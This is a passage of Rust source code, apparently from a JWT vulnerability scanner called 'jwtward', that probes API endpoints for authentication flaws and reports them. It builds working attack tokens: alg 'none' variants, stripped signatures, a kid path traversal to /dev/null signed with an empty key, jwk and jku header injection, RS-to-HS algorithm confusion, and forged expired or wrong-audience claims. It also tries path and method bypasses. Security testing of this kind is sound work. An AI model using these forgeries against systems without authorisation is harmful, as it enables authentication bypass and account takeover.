            Family::Kid => kid(ctx, st).await,
            Family::Jwk => jwk(ctx, st).await,
            Family::Jku => jku(ctx, st).await,
            Family::Confusion => confusion(ctx, st).await,
            Family::Key => signing_key(ctx, st).await,
        }
    }
}

/// Sends `make(random sub)` and reports whether it was refused (the server used the claims).
async fn differential(ctx: &Ctx, st: &State, token: Option<String>) -> Option<bool> {
    let t = token?;
    let (v, _, _) = ctx.attack(st, &t, "random-sub").await?;
    Some(!v.accepted())
}

fn diff_note(d: Option<bool>) -> &'static str {
    match d {
        Some(true) => {
            "; identity differential confirmed: the same forgery with a random `sub` is refused"
        }
        Some(false) => {
            "; the same forgery with a random `sub` is accepted too (the answer does not depend on `sub`)"
        }
        None => "",
    }
}

fn random_payload(ctx: &Ctx, jws: &Jws) -> Jws {
    jws.with_claim("sub", Some(Value::String(ctx.random_sub())))
}

// ---------------------------------------------------------------------------------------
// transport: path and method variants, cookie and query channels

fn path_variants(url: &str) -> Vec<(String, String)> {
    let Ok(u) = Url::parse(url) else {
        return Vec::new();
    };
    let path = u.path().to_string();
    let query = u.query().map(|q| format!("?{q}")).unwrap_or_default();
    let base = url[..url.len() - path.len() - query.len()].to_string();
    let mut out = Vec::new();
    let mut push = |label: &str, p: String| {
        if p != path
            && !out
                .iter()
                .any(|(_, x): &(String, String)| x == &format!("{base}{p}{query}"))
        {
            out.push((label.to_string(), format!("{base}{p}{query}")));
        }
    };
    if path.len() > 1 && path.ends_with('/') {
        push(
            "trailing slash removed",
            path.trim_end_matches('/').to_string(),
        );
    } else {
        push("trailing slash added", format!("{path}/"));
    }
    // The last segment that has letters.
    let segs: Vec<&str> = path.split('/').collect();
    if let Some(i) = segs
        .iter()
        .rposition(|s| s.chars().any(|c| c.is_ascii_alphabetic()) && !s.contains('%'))
    {
        let mut upper = segs.clone();
        let up = segs[i].to_ascii_uppercase();
        upper[i] = &up;
        push("upper case", upper.join("/"));
        let seg = segs[i];
        if let Some((j, c)) = seg.char_indices().find(|(_, c)| c.is_ascii_alphabetic()) {
            let enc = format!("{}%{:02X}{}", &seg[..j], c as u32, &seg[j + 1..]);
            let mut e = segs.clone();
            e[i] = &enc;
            push("percent-encoded character", e.join("/"));
        }
    }
    push("double slash", format!("/{path}"));
    out
}

async fn transport(ctx: &Ctx, st: &State) {
    let (Some((_, valid)), Some(p)) = (&st.valid, &st.profile) else {
        return;
    };
    let nresp = &st.no_creds.1;
    if !st.eligible || !is_rejection(nresp) {
        return;
    }
    // Path variants without credentials.
    if matches!(st.ep.method.as_str(), "GET" | "HEAD") {
        for (label, url) in path_variants(&st.ep.url) {
            let mut req = ctx.request(&st.ep, None);
            req.url = url;
            let Some(resp) = ctx.send(&req).await else {
                return;
            };
            if p.judge(&resp).accepted() {
                push_finding(
                    ctx,
                    finding(
                        &PATH_VARIANT_BYPASS,
                        st,
                        format!(
                            "{} {} requires a token ({} without one), but the variant `{}` ({label}) answers like the valid token without credentials",
                            st.ep.method, st.ep.path, nresp.status, req.url
                        ),
                        &req,
                        &resp,
                    ),
                );
                break;
            }
        }
    }
    // Method variants without credentials.
    if st.ep.method == "GET" {
        let mut head = ctx.request(&st.ep, None);
        head.method = "HEAD".into();
        if let Some(resp) = ctx.send(&head).await {
            let len = resp
                .header("content-length")
                .and_then(|l| l.trim().parse::<usize>().ok());
            let valid_len = (!valid.truncated).then_some(valid.body.len());
            if is_2xx(&resp)
                && resp.status == valid.status
                && len.is_some()
                && len == valid_len
                && valid_len != Some(0)
            {
                push_finding(
                    ctx,
                    finding(
                        &METHOD_BYPASS,
                        st,
                        format!(
                            "GET {} requires a token ({} without one), but HEAD without credentials answers {} with the Content-Length of the protected body ({} bytes)",
                            st.ep.path,
                            nresp.status,
                            resp.status,
                            len.unwrap_or(0)
                        ),
                        &head,
                        &resp,
                    ),
                );
            }
        }
        let mut opt = ctx.request(&st.ep, None);
        opt.method = "OPTIONS".into();
        if let Some(resp) = ctx.send(&opt).await
            && is_2xx(&resp)
            && p.judge(&resp) == (Verdict::Accepted { exact: true })
        {
            push_finding(
                ctx,
                finding(
                    &METHOD_BYPASS,
                    st,
                    format!(
                        "GET {} requires a token ({} without one), but OPTIONS without credentials returns the protected body",
                        st.ep.path, nresp.status
                    ),
                    &opt,
                    &resp,
                ),
            );
        }
    }
    // The token in a cookie / query parameter instead of the documented channel.
    let Some(tok) = ctx.token.as_ref().map(|t| t.raw.clone()) else {
        return;
    };
    if !matches!(st.ep.channel, Credential::Cookie(_)) {
        let names: Vec<String> = ctx
            .cookie_names
            .iter()
            .filter(|n| !st.ep.declared.contains(&Credential::Cookie((*n).clone())))
            .cloned()
            .collect();
        if !names.is_empty() {
            let all = names
                .iter()
                .map(|n| format!("{n}={tok}"))
                .collect::<Vec<_>>()
                .join("; ");
            let mut req = ctx.request(&st.ep, None);
            req.headers.push(("Cookie".into(), all));
            if let Some(resp) = ctx.send(&req).await
                && p.judge(&resp).accepted()
            {
                // Which name?
                let mut hit = (req, resp, None);
                for n in &names {
                    let mut one = ctx.request(&st.ep, None);
                    one.headers.push(("Cookie".into(), format!("{n}={tok}")));
                    if let Some(r) = ctx.send(&one).await
                        && p.judge(&r).accepted()
                    {
                        hit = (one, r, Some(n.clone()));
                        break;
                    }
                }
                let (req, resp, name) = hit;
                report(
                    ctx,
                    st,
                    &TOKEN_IN_COOKIE_ACCEPTED,
                    format!(
                        "accepts the token from the cookie {} (no Authorization header sent)",
                        name.map(|n| format!("`{n}`"))
                            .unwrap_or_else(|| "jar".into())
                    ),
                    &req,
                    &resp,
                );
            }
        }
    }
    if !matches!(st.ep.channel, Credential::Query(_)) {
        let names: Vec<&str> = COMMON_QUERY
            .iter()
            .copied()
            .filter(|n| {
                !st.ep
                    .declared
                    .contains(&Credential::Query((*n).to_string()))
            })
            .collect();
        let with_query = |names: &[&str]| {
            let mut req = ctx.request(&st.ep, None);
            for n in names {
                req.url.push(if req.url.contains('?') { '&' } else { '?' });
                req.url
                    .push_str(&format!("{n}={}", crate::openapi::encode_component(&tok)));
            }
            req
        };
        let req = with_query(&names);
        if let Some(resp) = ctx.send(&req).await
            && p.judge(&resp).accepted()
        {
            let mut hit = (req, resp, None);
            for n in &names {
                let one = with_query(&[n]);
                if let Some(r) = ctx.send(&one).await
                    && p.judge(&r).accepted()
                {
                    hit = (one, r, Some(*n));
                    break;
                }
            }
            let (req, resp, name) = hit;
            report(
                ctx,
                st,
                &TOKEN_IN_QUERY_ACCEPTED,
                format!(
                    "accepts the token from the query parameter {} (no Authorization header sent)",
                    name.map(|n| format!("`{n}`"))
                        .unwrap_or_else(|| "list".into())
                ),
                &req,
                &resp,
            );
        }
    }
}

// ---------------------------------------------------------------------------------------
// signature: stripped signature, tampered payload with the original signature

async fn signature(ctx: &Ctx, st: &State) {
    let Some(jws) = ctx.token.as_ref().and_then(|t| t.jws.as_ref()) else {
        return;
    };
    if st.unverified
        && let Some((creq, cresp)) = &st.corrupted
    {
        // The corrupted-signature baseline was accepted: confirm with a tampered `sub`.
        let d = differential(ctx, st, Some(random_payload(ctx, jws).to_compact())).await;
        st.hits.lock().expect("hits").insert("signature");
        report(
            ctx,
            st,
            &SIGNATURE_NOT_VERIFIED,
            format!(
                "accepts the token with a corrupted signature: the signature is not verified{}",
                diff_note(d)
            ),
            creq,
            cresp,
        );
        return;
    }
    let tampered = jws.with_claim("jwtward", Some(Value::String(ctx.nonce.clone())));
    let attempts = [
        (
            "stripped signature",
            jws.with_empty_signature(),
            "with an empty signature",
        ),
        (
            "tampered payload",
            tampered,
            "with an extra claim and the original signature",
        ),
    ];
    for (label, t, how) in attempts {
        let Some((v, req, resp)) = ctx.attack(st, &t.to_compact(), label).await else {
            return;
        };
        if v.accepted() {
            let forged = if label == "stripped signature" {
                random_payload(ctx, jws).with_empty_signature()
            } else {
                random_payload(ctx, jws)
            };
            let d = differential(ctx, st, Some(forged.to_compact())).await;
            st.hits.lock().expect("hits").insert("signature");
            report(
                ctx,
                st,
                &SIGNATURE_NOT_VERIFIED,
                format!(
                    "accepts the token {how}: the signature is not verified{}",
                    diff_note(d)
                ),
                &req,
                &resp,
            );
            return;
        }
    }
}

// ---------------------------------------------------------------------------------------
// alg none

async fn alg_none(ctx: &Ctx, st: &State) {
    let Some(jws) = ctx.token.as_ref().and_then(|t| t.jws.as_ref()) else {
        return;
    };
    if st.hits.lock().expect("hits").contains("signature") {
        return;
    }
    let forms: Vec<&str> = if st.rep {
        NONE_CASE_FORMS.to_vec()
    } else {
        vec!["none", "None", "NONE", "nOnE"]
    };
    // (form, signature kind)
    let mut variants: Vec<(&str, u8)> = Vec::new();
    for f in &forms {
        variants.push((f, 0)); // header.payload.
        variants.push((f, 1)); // header.payload
    }
    if st.rep {
        for f in ["none", "None", "NONE", "nOnE"] {
            variants.push((f, 2)); // original signature kept
        }
    }
    let build = |base: &Jws, form: &str, kind: u8| {
        let t = base.with_header_member("alg", Some(Value::String(form.to_string())));
        match kind {
            0 => t.with_empty_signature(),
            1 => t.without_signature_segment(),
            _ => t,
        }
        .to_compact()
    };
    for (form, kind) in variants {
        let token = build(jws, form, kind);
        let Some((v, req, resp)) = ctx.attack(st, &token, "alg-none").await else {
            return;
        };
        if v.accepted() {
            let d = differential(ctx, st, Some(build(&random_payload(ctx, jws), form, kind))).await;
            let sig = [
                "an empty signature",
                "no signature segment",
                "the original signature",
            ][kind as usize];
            report(
                ctx,
                st,
                &ALG_NONE_ACCEPTED,
                format!(
                    "accepts an unsigned token (alg `{form}`, {sig}){}",
                    diff_note(d)
                ),
                &req,
                &resp,
            );
            return;
        }
    }
}

// ---------------------------------------------------------------------------------------
// kid path traversal to an empty file, signed with an empty key

fn hmac_alg(ctx: &Ctx) -> Alg {
    match ctx.token.as_ref().and_then(TokenInfo::alg) {
        Some(a) if a.is_hmac() => a,
        _ => Alg::HS256,
    }
}

async fn kid(ctx: &Ctx, st: &State) {
    let Some(jws) = ctx.token.as_ref().and_then(|t| t.jws.as_ref()) else {
        return;
    };
    let mut kids = vec!["../../../../../../../../../../dev/null"];
    if st.rep {
        kids.push("/dev/null");
    }
    let alg = hmac_alg(ctx);
    let empty = Key::Hmac(Vec::new());
    for k in kids {
        let make = |base: &Jws| {
            base.with_header_member("kid", Some(Value::String(k.to_string())))
                .signed(alg, &empty)
                .ok()
                .map(|j| j.to_compact())
        };
        let Some(token) = make(jws) else { return };
        let Some((v, req, resp)) = ctx.attack(st, &token, "kid").await else {
            return;
        };
        if v.accepted() {
            let d = differential(ctx, st, make(&random_payload(ctx, jws))).await;
            report(
                ctx,
                st,
                &KID_INJECTION,
                format!(
                    "accepts a token with kid `{k}` signed ({alg}) with an empty key{}",
                    diff_note(d)
                ),
                &req,
                &resp,
            );
            return;
        }
    }
}

// ---------------------------------------------------------------------------------------
// embedded jwk

async fn jwk(ctx: &Ctx, st: &State) {
    let Some(jws) = ctx.token.as_ref().and_then(|t| t.jws.as_ref()) else {
        return;
    };
    let mut keys: Vec<(&Key, Alg)> = vec![(&ctx.attacker_ec, Alg::ES256)];
    if let Some(r) = &ctx.attacker_rsa {
        // RS256 first when the token is RSA-signed; otherwise only on representatives.
        let rsa_token = ctx
            .token
            .as_ref()
            .and_then(TokenInfo::alg)
            .is_some_and(|a| {
                matches!(
                    a,
                    Alg::RS256 | Alg::RS384 | Alg::RS512 | Alg::PS256 | Alg::PS384 | Alg::PS512
                )
            });
        if rsa_token {
            keys.insert(0, (r, Alg::RS256));
        } else if st.rep {
            keys.push((r, Alg::RS256));
        }
    }
    for (key, alg) in keys {
        let make = |base: &Jws| {
            let mut h = base.header().clone();
            if let Some(o) = h.as_object_mut() {
                o.insert("alg".into(), Value::String(alg.as_str().into()));
                o.insert("jwk".into(), key.to_public_jwk());
                o.shift_remove("kid");
                o.shift_remove("jku");
            }
            base.with_header(&h)
                .signed(alg, key)
                .ok()
                .map(|j| j.to_compact())
        };
        let Some(token) = make(jws) else { continue };
        let Some((v, req, resp)) = ctx.attack(st, &token, "jwk").await else {
            return;
        };
        if v.accepted() {
            let d = differential(ctx, st, make(&random_payload(ctx, jws))).await;
            report(
                ctx,
                st,
                &JWK_HEADER_INJECTION,
                format!(
                    "accepts a token signed ({alg}) with jwtward's own key, embedded in its `jwk` header{}",
                    diff_note(d)
                ),
                &req,
                &resp,
            );
            return;
        }
    }
}

// ---------------------------------------------------------------------------------------
// jku pointing at jwtward's JWKS

async fn jku(ctx: &Ctx, st: &State) {
    let Some(jws) = ctx.token.as_ref().and_then(|t| t.jws.as_ref()) else {
        return;
    };
    let Some(server) = &ctx.callback else { return };
    let mut keys: Vec<(&Key, Alg, String)> = Vec::new();
    if let Some(r) = &ctx.attacker_rsa {
        keys.push((r, Alg::RS256, format!("jwtward-rsa-{}", ctx.nonce)));
    }
    if st.rep || keys.is_empty() {
        keys.push((
            &ctx.attacker_ec,
            Alg::ES256,
            format!("jwtward-ec-{}", ctx.nonce),
        ));
    }
    let url = server.jwks_url();
    for (key, alg, kid) in keys {
        let make = |base: &Jws| {
            let mut h = base.header().clone();
            if let Some(o) = h.as_object_mut() {
                o.insert("alg".into(), Value::String(alg.as_str().into()));
                o.insert("jku".into(), Value::String(url.clone()));
                o.insert("kid".into(), Value::String(kid.clone()));
                o.shift_remove("jwk");
            }
            base.with_header(&h)
                .signed(alg, key)
                .ok()
                .map(|j| j.to_compact())
        };
        let Some(token) = make(jws) else { continue };
        let Some((v, req, resp)) = ctx.attack(st, &token, "jku").await else {
            return;
        };
        if v.accepted() {
            let d = differential(ctx, st, make(&random_payload(ctx, jws))).await;
            let fetched = server
                .hits()
                .iter()
                .any(|h| h.starts_with(&server.jwks_path));
            report(
                ctx,
                st,
                &JKU_HEADER_INJECTION,
                format!(
                    "accepts a token signed ({alg}) with jwtward's key, whose `jku` points at the JWKS jwtward serves ({url}){}{}",
                    if fetched {
                        "; the target fetched it"
                    } else {
                        ""
                    },
                    diff_note(d)
                ),
                &req,
                &resp,
            );
            return;
        }
    }
}

// ---------------------------------------------------------------------------------------
// algorithm confusion: HS* signed with the public key

async fn confusion(ctx: &Ctx, st: &State) {
    let Some(jws) = ctx.token.as_ref().and_then(|t| t.jws.as_ref()) else {
        return;
    };
    if ctx.public_keys.is_empty() {
        return;
    }
    let alg = match ctx.token.as_ref().and_then(TokenInfo::alg) {
        Some(Alg::RS384 | Alg::PS384 | Alg::ES384) => Alg::HS384,
        Some(Alg::RS512 | Alg::PS512) => Alg::HS512,
        _ => Alg::HS256,
    };
    for (source, key, original) in &ctx.public_keys {
        let mut secrets = confusion_secrets(key, Some(original));
        if !st.rep {
            secrets.truncate(4);
        }
        for secret in secrets {
            let hmac = Key::Hmac(secret.secret.clone());
            let make = |base: &Jws| base.signed(alg, &hmac).ok().map(|j| j.to_compact());
            let Some(token) = make(jws) else { continue };
            let Some((v, req, resp)) = ctx.attack(st, &token, "algorithm-confusion").await else {
                return;
            };
            if v.accepted() {
                let d = differential(ctx, st, make(&random_payload(ctx, jws))).await;
                report(
                    ctx,
                    st,
                    &ALGORITHM_CONFUSION,
                    format!(
                        "accepts an {alg} token whose HMAC secret is the public key from {source} ({}){}",
                        secret.label,
                        diff_note(d)
                    ),
                    &req,
                    &resp,
                );
                return;
            }
        }
    }
}

// ---------------------------------------------------------------------------------------
// with a signing key: forged tokens and the claims matrix

async fn signing_key(ctx: &Ctx, st: &State) {
    let Some(jws) = ctx.token.as_ref().and_then(|t| t.jws.as_ref()) else {
        return;
    };
    let Some((key, alg, source)) = ctx.signing.lock().expect("signing").clone() else {
        return;
    };
    let Some(payload) = jws.payload().filter(|p| p.is_object()).cloned() else {
        return;
    };
    let t = now();
    let sign = |claims: &Value| -> Option<String> {
        jws.with_payload(claims)
            .signed(alg, &key)
            .ok()
            .map(|j| j.to_compact())
    };
    let mut fresh = payload.clone();
    set(&mut fresh, "iat", json!(t));
    if fresh.get("exp").is_some() {
        set(&mut fresh, "exp", json!(t + 3600));
    }
    if fresh.get("nbf").is_some() {
        set(&mut fresh, "nbf", json!(t - 60));
    }
    let Some(token) = sign(&fresh) else { return };
    let Some((v, req, resp)) = ctx.attack(st, &token, "forged").await else {
        return;
    };
    if !v.accepted() {
        if st.rep {
            push_error(
                ctx,
                error(
                    "signing-key",
                    format!(
                        "{} {}: a token freshly signed with {source} ({alg}) is refused (HTTP {}): the key does not match, the claims matrix is skipped here",
                        st.ep.method, st.ep.path, resp.status
                    ),
                ),
            );
        }
        return;
    }
    let mut other = fresh.clone();
    set(&mut other, "sub", Value::String(ctx.random_sub()));
    let d = differential(ctx, st, sign(&other)).await;
    report(
        ctx,
        st,
        &FORGED_TOKEN_ACCEPTED,
        format!(
            "accepts a token freshly signed by jwtward with {source} ({alg}){}",
            diff_note(d)
        ),
        &req,
        &resp,
    );

    // The claims matrix.
    let mut matrix: Vec<(&RuleMeta, Value, &str)> = Vec::new();
    let mut expired = fresh.clone();
    set(&mut expired, "iat", json!(t - 2 * 86400));
    set(&mut expired, "exp", json!(t - 86400));
    matrix.push((
        &EXPIRED_TOKEN_ACCEPTED,
        expired,
        "`exp` one day in the past",
    ));
    if fresh.get("exp").is_some() {
        let mut no_exp = fresh.clone();
        unset(&mut no_exp, "exp");
        matrix.push((&TOKEN_WITHOUT_EXP_ACCEPTED, no_exp, "no `exp` claim"));
    }
    if fresh.get("aud").is_some() {
        let mut aud = fresh.clone();
        set(&mut aud, "aud", json!("jwtward-wrong-audience"));
        matrix.push((
            &WRONG_AUDIENCE_ACCEPTED,
            aud,
            "`aud` = `jwtward-wrong-audience`",
        ));
    }
    if fresh.get("iss").is_some() {
        let mut iss = fresh.clone();
        set(&mut iss, "iss", json!("https://issuer.jwtward.invalid"));
        matrix.push((
            &WRONG_ISSUER_ACCEPTED,
            iss,
            "`iss` = `https://issuer.jwtward.invalid`",
        ));
    }
    if fresh.get("sub").is_some() {
        let mut no_sub = fresh.clone();
        unset(&mut no_sub, "sub");
        matrix.push((&MISSING_SUB_ACCEPTED, no_sub, "no `sub` claim"));
    }
    let mut nbf = fresh.clone();
    set(&mut nbf, "nbf", json!(t + 86400));
    matrix.push((&NOT_YET_VALID_ACCEPTED, nbf, "`nbf` one day in the future"));
    for (rule, claims, what) in matrix {
        let Some(token) = sign(&claims) else { continue };
        let Some((v, req, resp)) = ctx.attack(st, &token, rule.name).await else {
            return;
        };
        if v.accepted() {
            push_finding(
                ctx,
                finding(
                    rule,
                    st,
                    format!(
                        "{} {} accepts a token with {what}, signed with {source}",
                        st.ep.method, st.ep.path
                    ),
                    &req,
                    &resp,
                ),
            );
        }
    }
}

fn set(v: &mut Value, k: &str, x: Value) {
    if let Some(o) = v.as_object_mut() {
        o.insert(k.to_string(), x);
    }
}

fn unset(v: &mut Value, k: &str) {
    if let Some(o) = v.as_object_mut() {
        o.shift_remove(k);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn variants_of_a_path() {
        let v = path_variants("http://h:1/api/reports?x=1");
        let urls: Vec<&str> = v.iter().map(|(_, u)| u.as_str()).collect();
        assert!(urls.contains(&"http://h:1/api/reports/?x=1"), "{urls:?}");
        assert!(urls.contains(&"http://h:1/api/REPORTS?x=1"), "{urls:?}");
        assert!(urls.contains(&"http://h:1/api/%72eports?x=1"), "{urls:?}");
        assert!(urls.contains(&"http://h:1//api/reports?x=1"), "{urls:?}");
    }

    #[test]
    fn sensitive_paths() {
        assert!(is_sensitive("/admin/export"));
        assert!(is_sensitive("/api/user-settings"));
        assert!(!is_sensitive("/items/{user}"));
        assert!(!is_sensitive("/health"));
    }
}
